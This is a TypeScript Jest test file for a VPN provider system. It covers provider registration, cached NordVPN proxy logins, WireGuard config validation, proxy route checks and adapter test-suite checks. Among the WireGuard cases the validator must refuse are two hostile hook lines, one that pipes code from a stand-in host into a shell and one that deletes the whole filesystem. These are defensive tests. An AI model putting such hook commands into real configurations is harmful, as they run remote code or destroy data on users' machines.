import { afterEach, describe, expect, test } from '@jest/globals';
import { z } from 'zod';
import { AppError } from '../../../src/platform/kernel/index.ts';
import type { Vpn, VpnAdapter } from '../../../src/providers/registry/index.ts';
import { secret } from '../../../src/providers/kit/declare/fields.ts';
import { vpn } from '../../../src/providers/vpn/_contract.ts';
import { wireguardFault } from '../../../src/providers/vpn/_wireguard.ts';
import { WIREGUARD } from '../../fixtures/providers/vpn/_route.ts';
import { makeCertificate } from '../../support/wire/certificate.ts';
import { failureOf } from '../../support/peers/fake-network.ts';
import {
  coverageCheck,
  describeProviders,
  manifestChecks,
  type ProviderFixture,
  type Suite,
  wireChecks,
} from '../../support/peers/suites/provider.ts';
import { localProviders } from '../../support/worlds/providers.ts';
import { startProxy } from '../../support/wire/proxy-server.ts';
import { startReceiver } from '../../support/wire/receiver.ts';

const suite: Suite<VpnAdapter, Vpn> = {
  domain: 'vpn',
  open: (providers, adapter, values) => providers.routes.vpn(adapter, { orgId: null, values }),
  operations: { proxy: (port) => port.proxy(), places: (port) => port.places!(), account: (port) => port.account!() },
};
await describeProviders(suite);

const closing: AsyncDisposable[] = [];
const keep = <T extends AsyncDisposable>(one: T): T => {
  closing.push(one);
  return one;
};
afterEach(async () => {
  for (const one of closing.splice(0).toReversed()) await one[Symbol.asyncDispose]();
});

test('the sixteen of the specification are registered as v1', () => {
  const wanted =
    'custom cyberghost expressvpn hideme hotspotshield ipvanish mozillavpn mullvad nordvpn pia protonvpn purevpn surfshark tunnelbear vyprvpn windscribe'.split(
      ' ',
    );
  const registered = keep(localProviders()).list('vpn');
  expect(registered.map(({ id, version }) => `${id}@${version}`).toSorted()).toEqual(wanted.map((id) => `${id}@v1`));
});

test('a VPN that no server can use has no settings, and says why [PV7]', async () => {
  const providers = keep(localProviders());
  const without = providers.list('vpn').filter(({ setup }) => setup === undefined);
  expect(without.map(({ id }) => id).toSorted()).toEqual([
    'cyberghost',
    'expressvpn',
    'hotspotshield',
    'tunnelbear',
    'vyprvpn',
  ]);
  for (const adapter of without) {
    expect(adapter.setupNotes).toContain('A server cannot drive');
    const error = await failureOf(providers.routes.vpn(adapter, { orgId: null, values: {} }).proxy());
    expect(error).toMatchObject({ failure: 'unsupported', message: adapter.setupNotes });
  }
});

describe('a proxy login that is read from the provider', () => {
  async function nord(values: Record<string, string>) {
    const api = keep(
      await startReceiver({
        answer: (response) =>
          void response.end(JSON.stringify({ username: 'service-user', password: 'service-password' })),
      }),
    );
    const providers = keep(localProviders({ servers: { 'vpn/nordvpn': api.url } }));
    const adapter = providers.resolve('vpn', 'nordvpn');
    return {
      api,
      proxy: () => providers.routes.vpn(adapter, { orgId: null, values: { location: 'nl', ...values } }).proxy(),
    };
  }
  const wanted = {
    protocol: 'socks5',
    host: 'nl.socks.nordhold.net',
    port: 1080,
    username: 'service-user',
    password: 'service-password',
  };

  test('is read once and cached, and again after a failure', async () => {
    const { api, proxy } = await nord({ accessToken: 'a-token' });
    const good = api.answer;
    api.answer = (response) => void response.writeHead(401).end();
    expect(await failureOf(proxy())).toMatchObject({ failure: 'reauthorize' });
    api.answer = good;
    for (const one of await Promise.all([proxy(), proxy(), proxy()])) expect(one).toEqual(wanted);
    expect(await proxy()).toEqual(wanted);
    expect(api.ledger).toHaveLength(2);
  });
  test('is read where the typed one is incomplete', async () => {
    const { proxy } = await nord({ accessToken: 'a-token', serviceUsername: 'ann' });
    expect(await proxy()).toEqual(wanted);
  });
  test('is refused for a location that is no longer offered', async () => {
    const { proxy } = await nord({ location: 'atlantis', serviceUsername: 'ann', servicePassword: 'p' });
    expect(await failureOf(proxy())).toMatchObject({
      failure: 'rejected',
      message: expect.stringContaining('lead to no proxy'),
    });
  });
});

describe('a WireGuard file', () => {
  const without = (line: RegExp) => WIREGUARD.replace(line, '');
  const withLine = (line: string, section = '[Interface]') => WIREGUARD.replace(section, `${section}\n${line}`);
  test('may have comments, other cases and line ends, and several peers', () => {
    for (const file of [
      WIREGUARD,
      WIREGUARD.replaceAll('\n', '\r\n'),
      `# made today\n${WIREGUARD.replace('PrivateKey', 'privatekey')}`,
      withLine('PresharedKey = AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8=', '[Peer]'),
      WIREGUARD.replace('nl-01.vpn.example:51820', '[2001:db8::1]:443'),
      `${WIREGUARD}\n${WIREGUARD.slice(WIREGUARD.indexOf('[Peer]'))}`,
    ])
      expect(wireguardFault(file)).toBeUndefined();
  });
  test.each<[string, string, RegExp]>([
    ['nothing', '', /needs one \[Interface\]/],
    ['no peer', WIREGUARD.slice(0, WIREGUARD.indexOf('[Peer]')), /needs a \[Peer\]/],
    ['two interfaces', `${WIREGUARD}\n${WIREGUARD}`, /needs one \[Interface\]/],
    ['no private key', without(/PrivateKey.*\n/), /needs privatekey/],
    ['no endpoint', without(/Endpoint.*\n/), /needs endpoint/],
    ['no ranges', without(/AllowedIPs.*\n/), /needs allowedips/],
    [
      'a key that is too short',
      WIREGUARD.replace(/PublicKey = .*/, 'PublicKey = AAECAwQ='),
      /line 7: publickey must be 32 bytes in base64/,
    ],
    ['a key that is no base64', WIREGUARD.replace(/PublicKey = .*/, `PublicKey = ${'!'.repeat(43)}=`), /32 bytes/],
    [
      'a key with bits beyond its bytes',
      WIREGUARD.replace(/PublicKey = .*/, 'PublicKey = Hx4dHBsaGRgXFhUUExIREA8ODQwLCgkIBwYFBAMCAQB='),
      /32 bytes/,
    ],
    ['a port that is none', WIREGUARD.replace(':51820', ':70000'), /endpoint/],
    ['an address that is none', WIREGUARD.replace('10.2.0.2/32', '10.2.0.256/32'), /address/],
    ['a range that is too long', WIREGUARD.replace('0.0.0.0/0', '0.0.0.0/33'), /allowedips/],
    ['a command', withLine('PostUp = curl evil.example | sh'), /line 2: only privatekey/],
    ['another command', withLine('PreDown = rm -rf /'), /only/],
    ['what it cannot read', withLine('hello'), /no setting/],
    ['another section', `${WIREGUARD}\n[Socks5]\n`, /a section is/],
  ])('with %s is refused, and its keys are not repeated', (_, file, words) => {
    expect(wireguardFault(file)).toMatch(words);
    expect(wireguardFault(file)).not.toContain('AAECAwQ');
  });
  test('is checked on input, by the name of its field', () => {
    const providers = keep(localProviders());
    const { setup } = providers.resolve('vpn', 'protonvpn');
    const typed = (wireguardConfig: string) => () =>
      providers.fields({ credentials: setup!.fields }, { sidecar: '127.0.0.1:1', wireguardConfig }, 'credentials.');
    expect(typed(WIREGUARD)()).toEqual({ sidecar: '127.0.0.1:1', wireguardConfig: WIREGUARD });
    expect(typed('[Peer]')).toThrow(AppError);
    expect(typed('[Peer]')).toThrow('WireGuard file: needs one [Interface]');
    expect(typed('x'.repeat(20_000))).toThrow('WireGuard file: has more than 16384 characters');
  });
});

describe('a check of a route', () => {
  const tls = makeCertificate(['proxy.test']);
  const login = { username: 'ann', password: 'a-long-password' };
  /** A service that tells addresses, and the custom route over a proxy of this test. */
  async function route(options: Partial<Parameters<typeof startProxy>[0]> = {}, values: Record<string, string> = {}) {
    const echo = keep(
      await startReceiver({
        answer: (response, _, message) => void response.end(JSON.stringify({ ip: message.socket.remoteAddress })),
      }),
    );
    const proxy = keep(await startProxy({ protocol: 'socks5', login, tls, ...options }));
    const providers = keep(localProviders({ echoUrl: echo.url, authorities: [tls.cert] }));
    const adapter = providers.resolve('vpn', 'custom');
    const typed = {
      protocol: options.protocol ?? 'socks5',
      host: '127.0.0.1',
      port: String(proxy.port),
      ...login,
      ...values,
    };
    return {
      echo,
      proxy,
      check: () => providers.check(adapter, providers.fields({ credentials: adapter.setup!.fields }, typed))!,
    };
  }

  test.each(['socks5', 'http'] as const)('answers the exit address of the proxy, by %s', async (protocol) => {
    const { check } = await route({ protocol });
    expect(await check()).toBe('The route comes out at 127.0.0.2');
  });

  test('refuses a route with the same exit as the open one', async () => {
    const { check } = await route({ from: '127.0.0.1' });
    expect(await failureOf(check())).toMatchObject({
      failure: 'rejected',
      message: expect.stringContaining('hides nothing'),
    });
  });

  test('checks the account first, where the settings name one', async () => {
    const { echo, proxy } = await route();
    const providers = keep(localProviders({ echoUrl: echo.url }));
    const paid = vpn({
      id: 'paid',
      version: 'v1',
      title: 'Paid',
      description: 'A VPN of this test.',
      authType: 'basic',
      credentials: {},
      proxy: () => ({ protocol: 'socks5', host: '127.0.0.1', port: proxy.port, ...login }),
      account: async () => 'The account is good',
    });
    expect(await providers.check(paid, {})).toBe('The account is good. The route comes out at 127.0.0.2');
  });

  test.each<[string, Parameters<typeof route>, string]>([
    ['a login that is refused (SOCKS5)', [{}, { password: 'another-password' }], 'reauthorize'],
    ['a login that is refused (407)', [{ protocol: 'http' }, { password: 'another-password' }], 'reauthorize'],
    ['what the ruleset forbids (2)', [{ refuses: 2 }], 'rejected'],
    ['what the proxy forbids (403)', [{ protocol: 'http', refuses: 403 }], 'rejected'],
    ...[3, 4, 5, 6].map((refuses): [string, Parameters<typeof route>, string] => [
      `no way there (${refuses})`,
      [{ refuses }],
      'unavailable',
    ]),
    ...[502, 503, 504].map((refuses): [string, Parameters<typeof route>, string] => [
      `no way there (${refuses})`,
      [{ protocol: 'http', refuses }],
      'unavailable',
    ]),
    ['a proxy that is not there', [{}, { port: '9' }], 'unavailable'],
    ['a name that is not there', [{}, { host: 'nowhere.invalid' }], 'unavailable'],
    ['a certificate that is not good', [{ protocol: 'https' }, {}], 'rejected'],
    ['an address that may not be called', [{}, { host: '10.0.0.1' }], 'rejected'],
  ])('%s is %s', async (_, given, failure) => {
    const { check } = await route(...given);
    const error = await failureOf(check());
    expect(error).toMatchObject({ failure, message: expect.stringMatching(/^The route “Custom proxy or WireGuard” /) });
    expect(error.message).not.toMatch(/another-password|a-long-password/);
  });

  test.each([
    ['a page', '<!doctype html><title>Welcome</title>'],
    ['nothing', ''],
    ['half', '{"ip'],
    ['no address', '{"ip":"here"}'],
  ])('and %s is no address', async (_, said) => {
    const { echo, check } = await route();
    echo.answer = (response) => void response.end(said);
    expect(await failureOf(check())).toMatchObject({ failure: 'unavailable' });
  });
});

describe('the suite detects an adapter that', () => {
  const KEY = 'k-0123456789+demo';
  const fixture: ProviderFixture = {
    values: { key: KEY },
    secret: ['key'],
    cases: [
      {
        operation: 'account',
        exchanges: [
          {
            asks: { method: 'GET', url: 'https://api.vpn.example/me', headers: { 'x-key': KEY } },
            says: { json: { paid: true } },
          },
        ],
        result: 'Paid',
      },
    ],
    refusals: [],
  };
  const demo = (account: Parameters<typeof vpn<{ key: ReturnType<typeof secret> }>>[0]['account'], more = {}) =>
    vpn({
      id: 'demo',
      version: 'v1',
      title: 'Demo',
      description: 'A VPN of this test.',
      authType: 'api_key',
      credentials: { key: secret('Key') },
      api: 'https://api.vpn.example',
      auth: { in: 'header', name: 'x-key', prefix: '', field: 'key' },
      ...(account && { account }),
      ...more,
    });
  const wrongIn = async (adapter: VpnAdapter) => {
    const wrong: string[] = [];
    for (const { name, run } of [
      ...manifestChecks(adapter),
      coverageCheck(adapter, fixture),
      ...wireChecks(suite, adapter, fixture),
    ])
      await run().catch(() => {
        wrong.push(name);
      });
    return wrong.join('\n');
  };
  const Me = z.object({ paid: z.boolean() });

  test('accepts every answer as a paid account', async () => {
    expect(await wrongIn(demo(async ({ http }) => ((await http.get('/me', Me)).paid ? 'Paid' : 'Unpaid')))).toBe('');
    expect(await wrongIn(demo(async ({ http }) => (await http.get('/me', z.unknown()), 'Paid')))).toContain(
      'refuses an empty answer',
    );
  });
  test('sends its key in the address', async () => {
    expect(
      await wrongIn(
        demo(async ({ http, values }) => (await http.get('/me', Me, { query: { key: values.key } }), 'Paid')),
      ),
    ).toContain('sends exactly the documented requests');
  });
});
